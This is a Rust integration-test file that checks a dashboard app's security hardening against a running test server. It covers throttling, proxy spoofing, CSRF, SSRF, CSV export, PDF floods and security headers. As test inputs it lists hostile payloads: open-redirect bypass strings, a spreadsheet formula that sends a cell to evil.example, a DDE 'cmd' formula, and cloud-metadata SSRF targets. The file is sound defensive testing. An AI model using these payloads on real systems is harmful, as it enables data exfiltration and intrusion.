//! The hardening issue's attacks, each performed against a running server: throttling beaten in
//! parallel, owner lockout and spoofed addresses, open redirects, spreadsheet formulas,
//! cross-site requests, the PDF printer and share tokens as a way to tie up the server,
//! health checks as a way in, values that overflow, and the smaller leaks.

use crate::common;

use common::{json, spawn_app_with, today, TestApp, PASSWORD, SHARE_TOKEN};
use futures_util::future::join_all;
use northstar::access::Role;
use northstar::platform::net::parse_networks;
use reqwest::StatusCode;
use sqlx::Connection;
use std::time::{Duration, Instant};

const CTO: &str = "cto@northstar.demo";

/// The app with `/metrics` open to this machine, so tests can read its counters.
async fn app_with_metrics() -> TestApp {
    spawn_app_with(|c| c.metrics_allow = parse_networks("127.0.0.0/8").unwrap()).await
}

async fn metric(app: &TestApp, name: &str) -> f64 {
    let text = app.client().get(app.url("/metrics")).send().await.unwrap().text().await.unwrap();
    text.lines().find_map(|l| l.strip_prefix(name).and_then(|v| v.trim().parse().ok())).unwrap_or(0.0)
}

/// Signs in with a form post, as from the client at `client_ip` behind the trusted proxy.
async fn login_from(app: &TestApp, client_ip: &str, password: &str) -> reqwest::Response {
    app.client()
        .post(app.url("/api/auth/login"))
        .header("x-forwarded-for", client_ip)
        .form(&[("email", CTO), ("password", password)])
        .send()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fifty_parallel_guesses_get_at_most_five_password_checks() {
    let app = app_with_metrics().await;
    let attempts = (0..50).map(|_| async { app.login(&app.client(), CTO, "a wrong password").await.status() });
    let statuses = join_all(attempts).await;
    let refused = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    let throttled = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    assert_eq!(refused + throttled, 50, "{statuses:?}");
    eprintln!("50 parallel wrong passwords: {refused} checked (401), {throttled} throttled (429)");
    assert!(refused <= 5, "{refused} guesses were checked");
    assert_eq!(metric(&app, "northstar_password_verifications_total").await as usize, refused, "one hash per checked guess");
    assert_eq!(metric(&app, "northstar_sign_ins_throttled_total").await as usize, throttled);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_guesser_cannot_lock_the_owner_out_and_cannot_choose_its_address() {
    // Behind a proxy on this machine: the forwarded address is the client's.
    let app = spawn_app_with(|c| c.trusted_proxies = parse_networks("127.0.0.1").unwrap()).await;
    for _ in 0..5 {
        assert_eq!(login_from(&app, "203.0.113.66", "guess").await.status(), 401);
    }
    let guesser = login_from(&app, "203.0.113.66", PASSWORD).await;
    assert_eq!(guesser.status(), 429, "the guessing client stays locked, even with the right password");
    let retry: u64 = guesser.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!(retry > 60, "{retry}");

    // The owner, from their own address, gets in after seconds, not fifteen minutes.
    let started = Instant::now();
    let owner = loop {
        let res = login_from(&app, "198.51.100.7", PASSWORD).await;
        if res.status() != 429 {
            break res;
        }
        let wait: u64 = res.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!(wait <= 2, "a short delay, not a lockout: {wait}");
        tokio::time::sleep(Duration::from_secs(wait)).await;
    };
    assert_eq!(owner.status(), 200);
    assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());

    // A client behind the proxy cannot pose as another by writing the header itself: the
    // proxy appends the real address, and the right-most untrusted entry is the one counted.
    for i in 0..5 {
        let res = login_from(&app, &format!("10.9.9.{i}, 192.0.2.44"), "guess").await;
        assert_eq!(res.status(), 401);
    }
    assert_eq!(login_from(&app, "10.9.9.99, 192.0.2.44", "guess").await.status(), 429);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_trusted_proxy_forwarded_for_is_ignored() {
    let app = spawn_app_with(|_| {}).await;
    for i in 0..5 {
        assert_eq!(login_from(&app, &format!("203.0.113.{i}"), "guess").await.status(), 401);
    }
    // Every attempt came from 127.0.0.1 whatever the header said: that pair is now locked.
    assert_eq!(login_from(&app, "203.0.113.200", PASSWORD).await.status(), 429);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_never_redirects_off_site() {
    let app = spawn_app_with(|_| {}).await;
    let hostile = [
        "//evil.example",
        "/\t/evil.example",
        "/%09/evil.example",
        "/\r\n/evil.example",
        "/%0d%0a/evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/%5Cevil.example",
        "/%2F%2Fevil.example",
        "/%252F%252Fevil.example",
        "https://evil.example",
        "http:/evil.example",
        "javascript:alert(document.cookie)",
        " //evil.example",
        "/\u{3000}/evil.example",
        "evil.example/path",
        "///evil.example",
    ];
    assert!(hostile.len() >= 15);
    for next in hostile {
        let res = app
            .client()
            .post(app.url("/api/auth/login"))
            .header("accept", "text/html")
            .form(&[("email", CTO), ("password", PASSWORD), ("next", next)])
            .send()
            .await
            .unwrap();
        assert!(res.status().is_redirection(), "{next:?}: {}", res.status());
        assert_eq!(res.headers()["location"], "/", "{next:?} must not be followed");
    }
    let res = app.client().post(app.url("/api/auth/login")).header("accept", "text/html").form(&[("email", CTO), ("password", PASSWORD), ("next", "/kpis?range=90d")]).send().await.unwrap();
    assert_eq!(res.headers()["location"], "/kpis?range=90d", "a same-site path is kept");
}

/// True when no cell of a CSV file could run as a formula in a spreadsheet.
fn no_formula_cells(csv_text: &str) -> Result<(), String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv_text.as_bytes());
    for record in reader.records() {
        let record = record.map_err(|e| e.to_string())?;
        for cell in record.iter() {
            let numeric = cell.parse::<f64>().is_ok();
            if !numeric && cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                return Err(format!("cell {cell:?} would run as a formula"));
            }
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_export_neutralises_formulas() {
    let app = spawn_app_with(|_| {}).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];

    app.add_kpi("latency", None, "percent", "lower", "mean", None).await;
    for (i, note) in hostile.iter().enumerate() {
        let res = app
            .call(&cto, "/api/kpis/measurements/add", &[("key", "latency".into()), ("timestamp", common::days_ago(i as i64 + 1)), ("value", "-5".into()), ("note", note.to_string())])
            .await;
        assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    }
    let eng = app.department_id("Engineering").await.to_string();
    let cloud = app.category_id("Cloud").await.to_string();
    for text in hostile {
        let mut form = common::expense_form("", &today(), "12.50", &eng, &cloud);
        for (k, v) in form.iter_mut() {
            if *k == "vendor" || *k == "description" || *k == "invoice_ref" {
                *v = format!("{text} {k}");
            }
        }
        let res = app.call(&cto, "/api/budgets/expenses/save", &form).await;
        assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    }
    let system = app.add_system("evil", None).await;
    sqlx::query("UPDATE systems SET name = '=HYPERLINK(\"http://evil.example\")' WHERE id = ?1").bind(system).execute(&app.pool).await.unwrap();

    for path in ["/api/kpis/latency/export.csv", "/api/budgets/expenses/export.csv", "/api/infra/sla.csv"] {
        let res = cto.get(app.url(path)).send().await.unwrap();
        assert_eq!(res.status(), 200, "{path}");
        let text = res.text().await.unwrap();
        no_formula_cells(&text).unwrap_or_else(|e| panic!("{path}: {e}\n{text}"));
        assert!(text.contains("'=HYPERLINK"), "{path} keeps the text, made inert:\n{text}");
    }
    // Numbers stay numbers.
    let kpi_csv = cto.get(app.url("/api/kpis/latency/export.csv")).send().await.unwrap().text().await.unwrap();
    assert!(kpi_csv.lines().nth(1).unwrap().contains(",-5,"), "{kpi_csv}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_from_another_site_are_refused() {
    let app = spawn_app_with(|_| {}).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    let own = format!("http://{}", app.addr);
    let samples: Vec<(&str, Vec<(&str, String)>)> = vec![
        ("/api/auth/login", vec![("email", CTO.into()), ("password", PASSWORD.into())]),
        ("/api/admin/users/create", vec![("email", "mallory@example.com".into()), ("name", "Mallory".into()), ("role", "cto".into()), ("department", String::new()), ("password", "long enough password".into())]),
        ("/api/admin/tokens/create", vec![("name", "stolen".into())]),
        ("/api/auth/logout", vec![]),
    ];
    for (path, form) in &samples {
        for origin in ["https://evil.example", "null", "http://127.0.0.1.evil.example"] {
            let res = cto.post(app.url(path)).header("origin", origin).form(form).send().await.unwrap();
            assert_eq!(res.status(), 403, "{path} from {origin}");
            assert!(json(res).await["error"].as_str().unwrap().contains("refused"));
        }
        let res = cto.post(app.url(path)).header("sec-fetch-site", "cross-site").form(form).send().await.unwrap();
        assert_eq!(res.status(), 403, "{path} marked cross-site");
    }
    let users: i64 = sqlx::query_scalar("SELECT count(*) FROM users WHERE email = 'mallory@example.com'").fetch_one(&app.pool).await.unwrap();
    assert_eq!(users, 0, "nothing was created");
    // An upload is a state-changing request too.
    let res = cto.post(app.url("/api/budgets/expenses/import?commit=1")).header("origin", "https://evil.example").body("date,amount\n").send().await.unwrap();
    assert_eq!(res.status(), 403);
    // From the site itself, all is well.
    let res = cto.post(app.url("/api/admin/tokens/create")).header("origin", &own).header("sec-fetch-site", "same-origin").form(&[("name", "fine")]).send().await.unwrap();
    assert_eq!(res.status(), 200);
    // The token API is for machines: no browser holds its tokens, so no origin is asked for.
    let token = json(res).await["secret"].as_str().unwrap().to_string();
    app.add_kpi("ingest", None, "count", "higher", "sum", None).await;
    let res = app
        .client()
        .post(app.url("/api/v1/kpis/ingest/measurements"))
        .bearer_auth(&token)
        .header("origin", "https://ci.example")
        .json(&serde_json::json!({"timestamp": common::days_ago(1), "value": 3}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_configured_site_url_is_the_only_origin() {
    let app = spawn_app_with(|c| c.site_url = Some(url::Url::parse("https://northstar.example.com").unwrap())).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    let form = [("name", "t")];
    let res = cto.post(app.url("/api/admin/tokens/create")).header("origin", format!("http://{}", app.addr)).form(&form).send().await.unwrap();
    assert_eq!(res.status(), 403, "the address the proxy forwards from is not the site");
    let res = cto.post(app.url("/api/admin/tokens/create")).header("origin", "https://northstar.example.com").form(&form).send().await.unwrap();
    assert_eq!(res.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_share_tokens_do_not_wait_for_the_write_lock() {
    let app = spawn_app_with(|_| {}).await;
    let id = app.add_published_report("Board pack").await;
    app.add_share_link(id, SHARE_TOKEN, common::now() + 86_400).await;
    // Another process holds SQLite's write lock (a backup, the command line).
    let mut holder = sqlx::SqliteConnection::connect(&app.state.config.database_url).await.unwrap();
    sqlx::query("BEGIN IMMEDIATE").execute(&mut holder).await.unwrap();
    let anonymous = app.client();
    let started = Instant::now();
    for i in 0..20 {
        let token = format!("guessed-{i:02}-{}", "x".repeat(32));
        assert_eq!(token.len(), 43);
        assert_eq!(anonymous.get(app.url(&format!("/share/{token}"))).send().await.unwrap().status(), 404);
        assert_eq!(anonymous.get(app.url(&format!("/api/share/{token}/pdf"))).send().await.unwrap().status(), 404);
    }
    assert!(started.elapsed() < Duration::from_secs(5), "40 refusals took {:?}", started.elapsed());
    sqlx::query("ROLLBACK").execute(&mut holder).await.unwrap();
    // A real link still opens and counts its visit.
    assert_eq!(anonymous.get(app.url(&format!("/share/{SHARE_TOKEN}"))).send().await.unwrap().status(), 200);
    let uses: i64 = sqlx::query_scalar("SELECT uses FROM report_share_links WHERE report_id = ?1").bind(id).fetch_one(&app.pool).await.unwrap();
    assert_eq!(uses, 1);
}

/// Needs Chromium, which the test script installs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_printer_renders_a_version_once_and_turns_away_a_flood() {
    let Some(chromium) = common::chromium() else { return };
    let app = spawn_app_with(|c| {
        c.chromium = Some(chromium);
        c.metrics_allow = parse_networks("127.0.0.1").unwrap();
    })
    .await;
    let id = app.add_published_report("Flood test").await;
    app.add_share_link(id, SHARE_TOKEN, common::now() + 86_400).await;
    let holder = app.client();
    let pdfs = join_all((0..20).map(|_| async { holder.get(app.url(&format!("/api/share/{SHARE_TOKEN}/pdf"))).send().await.unwrap() })).await;
    let mut bodies = Vec::new();
    for res in pdfs {
        assert_eq!(res.status(), 200);
        bodies.push(res.bytes().await.unwrap());
    }
    assert!(bodies.iter().all(|b| b.starts_with(b"%PDF") && *b == bodies[0]));
    assert_eq!(metric(&app, "northstar_pdf_renders_total").await, 1.0, "Chromium started once for 20 requests");
    // Later requests come from the kept copy.
    assert_eq!(holder.get(app.url(&format!("/api/share/{SHARE_TOKEN}/pdf"))).send().await.unwrap().status(), 200);
    assert_eq!(metric(&app, "northstar_pdf_renders_total").await, 1.0);

    // Twelve different versions at once: the queue takes six, the rest are told to come back.
    for version in 2..=12 {
        sqlx::query("INSERT INTO report_versions (report_id, version, title, period_label, note, snapshot) SELECT report_id, ?2, title, period_label, 'again', snapshot FROM report_versions WHERE report_id = ?1 AND version = 1")
            .bind(id)
            .bind(version)
            .execute(&app.pool)
            .await
            .unwrap();
    }
    let reader = app.client_as(Some(Role::Investor)).await;
    let answers = join_all((2..=12).map(|v| {
        let reader = reader.clone();
        let url = app.url(&format!("/api/reports/{id}/versions/{v}/pdf"));
        async move { reader.get(url).send().await.unwrap() }
    }))
    .await;
    let busy: Vec<_> = answers.iter().filter(|r| r.status() == 503).collect();
    assert!(!busy.is_empty(), "a flood of versions is bounded");
    assert!(busy.iter().all(|r| r.headers().contains_key("retry-after")));
    assert!(answers.iter().all(|r| r.status() == 200 || r.status() == 503));
    assert!(metric(&app, "northstar_pdf_renders_total").await <= 7.0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn checks_cannot_reach_metadata_addresses() {
    let app = spawn_app_with(|_| {}).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    let system = app.add_system("web", None).await;
    let check = |kind: &str, target: &str| {
        let mut form = common::check_form(system, kind, target, "3600", "1");
        form.push(("follow_redirects", "on".into()));
        form
    };
    for (kind, target) in [
        ("http", "http://169.254.169.254/latest/meta-data/"),
        ("http", "http://[::ffff:169.254.169.254]/"),
        ("http", "http://[fe80::1]:8080/"),
        ("tcp", "169.254.169.254:80"),
        ("http", "http://100.100.100.200/"),
    ] {
        let res = app.call(&cto, "/api/infra/checks/save", &check(kind, target)).await;
        assert_eq!(res.status(), 422, "{target}");
        assert!(json(res).await["fields"][0]["field"] == "target");
    }
    // A loopback server that redirects to the metadata service: the hop is refused by the
    // policy, and the test's connector (which dials nothing beyond loopback) records no try.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        while let Ok((mut sock, _)) = listener.accept().await {
            let mut buf = [0u8; 1024];
            let _ = sock.read(&mut buf).await;
            let _ = sock.write_all(b"HTTP/1.1 302 Found\r\nlocation: http://169.254.169.254/latest/meta-data/iam/\r\ncontent-length: 0\r\n\r\n").await;
        }
    });
    let res = app.call(&cto, "/api/infra/checks/save", &check("http", &format!("http://127.0.0.1:{port}/login"))).await;
    assert_eq!(res.status(), 200);
    let id = json(res).await.as_i64().unwrap();
    let res = app.call(&cto, "/api/infra/checks/run", &[("id", id.to_string())]).await;
    let said = json(res).await.as_str().unwrap().to_string();
    assert!(said.contains("outbound address policy") && said.contains("169.254.169.254"), "{said}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn times_out_of_range_are_refused_where_they_are_given() {
    let app = spawn_app_with(|_| {}).await;
    let token = app.api_token("ci").await;
    let post = |path: &'static str, body: serde_json::Value| {
        let (client, url, token) = (app.client(), app.url(path), token.clone());
        async move { client.post(url).bearer_auth(token).json(&body).send().await.unwrap() }
    };
    let res = post("/api/v1/events/deployments", serde_json::json!({"service": "api", "deployed_at": common::days_ago(1), "commit_times": [i64::MIN, -1, "0001-01-01T00:00:00Z"]})).await;
    assert_eq!(res.status(), 422);
    let details = json(res).await["details"].clone();
    let fields: Vec<&str> = details.as_array().unwrap().iter().map(|d| d["field"].as_str().unwrap()).collect();
    assert_eq!(fields, ["commit_times[0]", "commit_times[1]", "commit_times[2]"]);
    for (field, value) in [("started_at", serde_json::json!("0001-01-01T00:00:00Z")), ("started_at", serde_json::json!(i64::MIN)), ("resolved_at", serde_json::json!(i64::MAX))] {
        let mut body = serde_json::json!({"service": "api", "severity": "sev2", "started_at": common::days_ago(2)});
        body[field] = value;
        let res = post("/api/v1/events/incidents", body).await;
        assert_eq!(res.status(), 422, "{field}");
        assert_eq!(json(res).await["details"][0]["field"], field);
    }
    let res = post("/api/v1/events/deployments", serde_json::json!({"service": "api", "deployed_at": "1970-01-01T00:00:00Z"})).await;
    assert_eq!(res.status(), 201, "1970 itself is in range");

    let cto = app.client_as(Some(Role::Cto)).await;
    let system = app.add_system("db", None).await;
    let res = app
        .call(&cto, "/api/infra/incidents/open", &[("system", system.to_string()), ("severity", "sev2".into()), ("title", "Old".into()), ("started", "0001-01-01T00:00".into()), ("body", String::new())])
        .await;
    assert_eq!(res.status(), 422);
    assert_eq!(json(res).await["fields"][0]["field"], "started");
    let res = app.call(&cto, "/api/infra/maintenance/save", &[("system_id", system.to_string()), ("starts", "9999-01-01T00:00".into()), ("ends", "9999-01-02T00:00".into()), ("note", String::new())]).await;
    assert_eq!(res.status(), 422);
    app.add_kpi("cost", None, "count", "lower", "sum", None).await;
    let res = app.call(&cto, "/api/kpis/measurements/add", &[("key", "cost".into()), ("timestamp", "1969-12-31T23:59:59Z".into()), ("value", "1".into()), ("note", String::new())]).await;
    assert_eq!(res.status(), 422);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn money_at_its_limits() {
    let app = spawn_app_with(|_| {}).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    let (eng, cloud) = (app.department_id("Engineering").await, app.category_id("Cloud").await);
    let save = |amount: &str| common::expense_form("", &today(), amount, &eng.to_string(), &cloud.to_string());
    assert_eq!(app.call(&cto, "/api/budgets/expenses/save", &save("90,000,000,000.00")).await.status(), 200, "the largest amount");
    assert_eq!(app.call(&cto, "/api/budgets/expenses/save", &save("90,000,000,000.01")).await.status(), 422);
    // Recorded spending just under the total Northstar keeps: 999 more of the largest amount.
    for _ in 0..999 {
        app.add_expense("Engineering", "Cloud", &today(), northstar::platform::money::MAX_MINOR).await;
    }
    let res = app.call(&cto, "/api/budgets/expenses/save", &save("0.01")).await;
    assert_eq!(res.status(), 422, "past the total");
    assert!(json(res).await["fields"][0]["message"].as_str().unwrap().contains("the most Northstar keeps"));
    // An import that would pass it is refused whole.
    let file = format!("date,amount,department,category,kind\n{},1.00,Engineering,Cloud,opex\n", today());
    let res = cto.post(app.url("/api/budgets/expenses/import?commit=1")).body(file).send().await.unwrap();
    assert_eq!(res.status(), 422);
    // Every page over these sums still answers, with exact figures.
    let res = app.call(&cto, "/api/budgets/overview", &[("year", String::new()), ("department", String::new())]).await;
    assert_eq!(res.status(), 200);
    assert!(res.text().await.unwrap().contains("$90,000,000,000,000.00"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn staged_uploads_are_private_and_limited() {
    let app = spawn_app_with(|_| {}).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    app.add_kpi("latency", None, "ms", "lower", "mean", None).await;
    let mut tokens = Vec::new();
    for i in 0..4 {
        let res = app.upload_csv(&cto, "latency", format!("timestamp,value\n{},{i}\n", common::days_ago(1))).await;
        assert_eq!(res.status(), 200);
        tokens.push(json(res).await["token"].as_str().unwrap().to_string());
    }
    let dir = app.state.part::<northstar::kpi::import::Imports>().dir().to_path_buf();
    assert!(dir.starts_with(app.state.config.data_dir()), "{}", dir.display());
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777, 0o700);
    let staged = std::fs::read_dir(&dir).unwrap().count();
    assert_eq!(staged, 3, "a fourth upload replaces the oldest waiting one");
    let commit = |token: String| {
        let (app, cto) = (&app, &cto);
        async move { app.call(cto, "/api/kpis/import/commit", &[("key", "latency".into()), ("token", token)]).await.status() }
    };
    assert_eq!(commit(tokens[0].clone()).await, 409, "the oldest was dropped");
    assert_eq!(commit(tokens[3].clone()).await, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_department_head_learns_nothing_of_other_departments_vendors() {
    let app = spawn_app_with(|_| {}).await;
    // Operations spends with a vendor Engineering has never used.
    let ops_expense = app.add_expense("Operations", "Cloud", &today(), 1000).await;
    let vendor: i64 = sqlx::query_scalar("INSERT INTO vendors (name) VALUES ('Secret Supplier') RETURNING id").fetch_one(&app.pool).await.unwrap();
    sqlx::query("UPDATE expenses SET vendor_id = ?1 WHERE id = ?2").bind(vendor).bind(ops_expense).execute(&app.pool).await.unwrap();
    let file = format!("date,amount,category,kind,vendor\n{d},10,Cloud,opex,Secret Supplier\n{d},10,Cloud,opex,Brand New Co\n", d = today());
    let head = app.client_as(Some(Role::DepartmentHead)).await;
    let preview = json(head.post(app.url("/api/budgets/expenses/import")).body(file.clone()).send().await.unwrap()).await;
    assert_eq!(preview["new_vendors"], serde_json::json!(["Secret Supplier", "Brand New Co"]), "both are new to Engineering");
    let cto = app.client_as(Some(Role::Cto)).await;
    let with_department = file.replace("category,kind", "department,category,kind").replace(",Cloud", ",Engineering,Cloud");
    let preview = json(cto.post(app.url("/api/budgets/expenses/import")).body(with_department).send().await.unwrap()).await;
    assert_eq!(preview["new_vendors"], serde_json::json!(["Brand New Co"]), "the CTO sees the company's vendors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signed_in_answers_are_never_cached_and_scripts_need_the_nonce() {
    let app = spawn_app_with(|_| {}).await;
    let cto = app.client_as(Some(Role::Cto)).await;
    app.add_kpi("latency", None, "ms", "lower", "mean", None).await;
    for path in ["/", "/kpis", "/api/kpis/latency/export.csv", "/api/budgets/expenses/export.csv", "/login"] {
        let res = cto.get(app.url(path)).send().await.unwrap();
        assert_eq!(res.headers()["cache-control"], "no-store", "{path}");
    }
    let filters = ["window", "category", "status", "scope", "q"].map(|k| (k, String::new()));
    let res = app.call(&cto, "/api/kpis/list", &filters).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["cache-control"], "no-store");
    let page = cto.get(app.url("/kpis")).send().await.unwrap();
    assert_eq!(page.headers().get_all("content-security-policy").iter().count(), 1, "one policy, not two");
    let policy = page.headers()["content-security-policy"].to_str().unwrap().to_string();
    let html = page.text().await.unwrap();
    assert!(policy.contains("default-src 'self'") && policy.contains("frame-ancestors 'none'"), "{policy}");
    let nonce = policy.split("'nonce-").nth(1).and_then(|r| r.split('\'').next()).expect("a nonce in script-src");
    assert!(nonce.len() >= 16);
    let scripts = html.matches("<script").count();
    assert!(scripts > 0);
    assert!(html.matches(&format!("nonce=\"{nonce}\"")).count() >= scripts, "every script carries this render's nonce");
    let again = cto.get(app.url("/kpis")).send().await.unwrap();
    assert!(!again.headers()["content-security-policy"].to_str().unwrap().contains(nonce), "a fresh nonce per page");
    // The page for an unknown address is rendered by the fallback, with scripts of its own.
    let missing = cto.get(app.url("/no/such/page")).send().await.unwrap();
    assert_eq!(missing.status(), 404);
    let policy = missing.headers()["content-security-policy"].to_str().unwrap().to_string();
    let nonce = policy.split("'nonce-").nth(1).and_then(|r| r.split('\'').next()).expect("a nonce on the not-found page");
    let html = missing.text().await.unwrap();
    assert!(html.matches("<script").count() > 0 && html.matches("<script").count() <= html.matches(&format!("nonce=\"{nonce}\"")).count());
    let csv = cto.get(app.url("/api/kpis/latency/export.csv")).send().await.unwrap();
    assert_eq!(csv.headers().get_all("content-security-policy").iter().count(), 1);
    assert!(!csv.headers()["content-security-policy"].to_str().unwrap().contains("nonce"), "no inline script anywhere else");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_open_only_to_configured_addresses_or_the_token() {
    let closed = spawn_app_with(|_| {}).await;
    assert_eq!(closed.client().get(closed.url("/metrics")).send().await.unwrap().status(), 403);
    let by_token = spawn_app_with(|c| c.metrics_token = Some("scrape-me-0123456789".into())).await;
    assert_eq!(by_token.client().get(by_token.url("/metrics")).send().await.unwrap().status(), 403);
    assert_eq!(by_token.client().get(by_token.url("/metrics")).bearer_auth("wrong").send().await.unwrap().status(), 403);
    let cto = by_token.client_as(Some(Role::Cto)).await;
    assert_eq!(cto.get(by_token.url("/metrics")).send().await.unwrap().status(), 403, "a session is not enough");
    let res = by_token.client().get(by_token.url("/metrics")).bearer_auth("scrape-me-0123456789").send().await.unwrap();
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"].to_str().unwrap().starts_with("application/openmetrics-text"));
    let text = res.text().await.unwrap();
    for family in ["northstar_http_requests_total", "northstar_http_request_duration_seconds", "northstar_db_write_lock_wait_seconds", "northstar_db_pool_connections"] {
        assert!(text.contains(family), "{family} missing:\n{text}");
    }
    let elsewhere = spawn_app_with(|c| c.metrics_allow = parse_networks("10.0.0.0/8").unwrap()).await;
    assert_eq!(elsewhere.client().get(elsewhere.url("/metrics")).send().await.unwrap().status(), 403);
}
